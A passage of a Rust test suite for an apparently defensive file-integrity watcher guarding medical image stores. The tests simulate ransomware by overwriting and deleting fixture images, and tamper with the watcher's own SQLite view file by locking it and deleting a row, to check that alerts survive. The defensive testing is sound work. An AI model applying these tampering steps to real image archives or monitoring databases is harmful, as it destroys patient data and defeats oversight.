                    .as_str()
                    .is_some_and(|d| d.contains("rebuilt from the signed baseline"))
        })
    });
    assert!(rebuilt, "{:#?}", watcher.findings());
    // Half encrypted in place (same length, other bytes), half deleted.
    for rel in &stored[..3] {
        let len = fs::metadata(env.path(rel)).expect("test fixture").len();
        fs::write(env.path(rel), keystream(len as usize, 7)).expect("test fixture");
    }
    for rel in &stored[3..] {
        fs::remove_file(env.path(rel)).expect("test fixture");
    }
    let judged = |f: &[Value]| {
        let alerts: Vec<(String, String)> = f
            .iter()
            .filter(|f| f["severity"] == "alert")
            .map(|f| {
                let path = f["path"].as_str().unwrap_or_default();
                let prefix = format!("{}/", env.tree.display());
                (
                    f["kind"].as_str().unwrap_or_default().to_string(),
                    path.strip_prefix(&prefix).unwrap_or(path).to_string(),
                )
            })
            .collect();
        stored[..3].iter().all(|rel| {
            alerts
                .iter()
                .any(|(k, p)| p == rel && k != "removed" && k != "added")
        }) && stored[3..]
            .iter()
            .all(|rel| alerts.iter().any(|(k, p)| p == rel && k == "removed"))
    };
    let said = watcher.wait(Duration::from_secs(60), |f, _| judged(f));
    let (_, findings, stderr) = watcher.stop();
    assert!(said, "{findings:#?}\n{stderr}");
    // None of them taken for a new file.
    let t = tally(&findings, &env.tree);
    for rel in &stored {
        assert_eq!(
            t.get(&("added".into(), rel.clone())),
            Some(&1),
            "{findings:#?}"
        );
    }
}

/// Issue 15 (review rv40-watch, A7b): someone who can write the home holds a lock on the
/// view file (`sqlite3`, `BEGIN EXCLUSIVE`): every lookup and write of it waited SQLite's
/// busy timeout and failed, the guard fell back to memory reading none of the file's rows
/// (the same lock), and held the bare signed baseline: images stored since the start,
/// encrypted after, were `added` infos, deleted, nothing; the wait was never said. The
/// run's writes are held in memory and laid over the baseline, and the alert says the
/// wait. Seen failing before the change (the engine as on main): no alert about the
/// stored images. Session 43: once the lock is gone the view goes back to a new file (the
/// debug build's `PACSGUARD_TEST_VIEW_RETURN_WAIT_MS`, 1 s for 30), said in one line, and
/// the images are judged against it: nothing seen is forgotten across the switch.
#[test]
fn images_stored_since_the_start_stay_guarded_when_the_view_file_is_locked() {
    use std::io::{BufRead as _, Write as _};
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\nview_on_disk = true\n");
    env.profile(&["--policy", "append-only"]);
    let mut command = pacsguard();
    command.env("PACSGUARD_TEST_VIEW_RETURN_WAIT_MS", "1000");
    let watcher = Watcher::start_with(&env, &[], command);
    fs::create_dir(env.path("study/stored")).expect("test fixture");
    let stored: Vec<String> = (0..6).map(|i| format!("study/stored/{i}.dcm")).collect();
    for (i, rel) in stored.iter().enumerate() {
        let mut bytes = vec![0u8; 128];
        bytes.extend_from_slice(b"DICM");
        bytes.extend((0..3_000u32).map(|b| (b.wrapping_mul(31).wrapping_add(i as u32)) as u8));
        fs::write(env.path(rel), bytes).expect("test fixture");
    }
    let arrived = watcher.wait(Duration::from_secs(60), |f, _| {
        let t = tally(f, &env.tree);
        stored
            .iter()
            .all(|rel| t.contains_key(&("added".into(), rel.clone())))
    });
    assert!(arrived, "{:#?}", watcher.findings());
    // Past the arrival grace (30 s): stored images like any other.
    std::thread::sleep(Duration::from_secs(32));
    let mut lock = std::process::Command::new("sqlite3")
        .arg(env.home.join("watch-view-0.sqlite"))
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("sqlite3 runs (scripts/setup-test-deps.sh)");
    let mut stdin = lock.stdin.take().expect("stdin");
    // The lock waited for (another reader may hold the file a moment), and 'held'
    // said only once it is taken (`.bail`: an error ends sqlite3, no 'held').
    writeln!(
        stdin,
        ".timeout 30000\n.bail on\nBEGIN EXCLUSIVE;\nSELECT 'held';"
    )
    .expect("to sqlite3");
    stdin.flush().expect("to sqlite3");
    let mut held = String::new();
    std::io::BufReader::new(lock.stdout.take().expect("stdout"))
        .read_line(&mut held)
        .expect("from sqlite3");
    assert_eq!(held.trim(), "held");
    // A write of the view while it is locked: a file added elsewhere.
    fs::write(env.path("study/other.txt"), b"x").expect("test fixture");
    let fell = watcher.wait(Duration::from_secs(120), |f, _| {
        f.iter().any(|f| {
            f["kind"] == "watch-state-altered"
                && f["detail"]
                    .as_str()
                    .is_some_and(|d| d.contains("no longer judged against"))
        })
    });
    let _ = lock.kill();
    let _ = lock.wait();
    assert!(fell, "{:#?}", watcher.findings());
    let back = watcher.wait(Duration::from_secs(60), |_, stderr| {
        stderr.contains("back on disk after")
    });
    assert!(back, "{}", watcher.stderr());
    assert!(env.home.join("watch-view-0.sqlite").is_file());
    // Half encrypted in place (same length, other bytes), half deleted.
    for rel in &stored[..3] {
        let len = fs::metadata(env.path(rel)).expect("test fixture").len();
        fs::write(env.path(rel), keystream(len as usize, 7)).expect("test fixture");
    }
    for rel in &stored[3..] {
        fs::remove_file(env.path(rel)).expect("test fixture");
    }
    let judged = |f: &[Value]| {
        let alerts: Vec<(String, String)> = f
            .iter()
            .filter(|f| f["severity"] == "alert")
            .map(|f| {
                let path = f["path"].as_str().unwrap_or_default();
                let prefix = format!("{}/", env.tree.display());
                (
                    f["kind"].as_str().unwrap_or_default().to_string(),
                    path.strip_prefix(&prefix).unwrap_or(path).to_string(),
                )
            })
            .collect();
        stored[..3].iter().all(|rel| {
            alerts
                .iter()
                .any(|(k, p)| p == rel && k != "removed" && k != "added")
        }) && stored[3..]
            .iter()
            .all(|rel| alerts.iter().any(|(k, p)| p == rel && k == "removed"))
    };
    let said = watcher.wait(Duration::from_secs(60), |f, _| judged(f));
    let (_, findings, stderr) = watcher.stop();
    assert!(said, "{findings:#?}\n{stderr}");
    let t = tally(&findings, &env.tree);
    for rel in &stored {
        assert_eq!(
            t.get(&("added".into(), rel.clone())),
            Some(&1),
            "{findings:#?}"
        );
    }
    let waited = findings.iter().any(|f| {
        f["kind"] == "watch-state-altered"
            && f["detail"].as_str().is_some_and(|d| {
                d.contains("laid over it as the watcher made them")
                    && d.contains("the guard waited")
            })
    });
    assert!(waited, "{findings:#?}");
}

/// Issue 15 (review rv38-scale, t2): a row deleted from the view file with sqlite3, then
/// its file deleted: the removal's lookup read the missing row as "absent" (no chain
/// link checked) and no `removed` came. A path the chain names reads as damage, a file of
/// unknown state: its removal is said.
#[test]
fn a_row_deleted_from_the_view_file_never_hides_the_removal_of_its_file() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\nview_on_disk = true\n");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    let deleted = std::process::Command::new("sqlite3")
        .arg(env.home.join("watch-view-0.sqlite"))
        .arg(
            "DELETE FROM view WHERE rel = CAST('study/series/1.dcm' AS BLOB); \
             SELECT changes();",
        )
        .output()
        .expect("sqlite3 runs (scripts/setup-test-deps.sh)");
    assert_eq!(
        String::from_utf8_lossy(&deleted.stdout).trim(),
        "1",
        "{}",
        String::from_utf8_lossy(&deleted.stderr)
    );
    fs::remove_file(env.path("study/series/1.dcm")).expect("test fixture");
    let removed = watcher.wait(Duration::from_secs(60), |f, _| {
        tally(f, &env.tree).contains_key(&("removed".into(), "study/series/1.dcm".into()))
    });
    let (_, findings, stderr) = watcher.stop();
    assert!(removed, "{findings:#?}\n{stderr}");
}

/// A real `sqlite3` reader holding a read transaction on `file` until it is killed (a
/// backup or an admin's `.dump` of the view file).
fn view_read_locked(file: &Path) -> std::process::Child {
    view_locked(file, "BEGIN;")
}

/// A real `sqlite3` process holding `begin` (`BEGIN;` with a read, or `BEGIN
/// EXCLUSIVE;`) on the view file `file`, until it is killed.
fn view_locked(file: &Path, begin: &str) -> std::process::Child {
    use std::io::Write as _;
    let mut reader = std::process::Command::new("sqlite3")
        .arg(file)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("sqlite3 runs (scripts/setup-test-deps.sh)");
    let mut stdin = reader.stdin.take().expect("stdin");
    writeln!(
        stdin,
        ".timeout 30000\n.bail on\n{begin}\nSELECT count(*) FROM view;\nSELECT 'held';"
    )
    .expect("to sqlite3");
    stdin.flush().expect("to sqlite3");
    let mut out = BufReader::new(reader.stdout.take().expect("stdout"));
    let mut line = String::new();
    out.read_line(&mut line).expect("from sqlite3");
    line.clear();
    out.read_line(&mut line).expect("from sqlite3");
    assert_eq!(line.trim(), "held");
    // Kept open (its stdin too): the transaction stays until the process is killed.
    std::mem::forget(stdin);
    reader
}
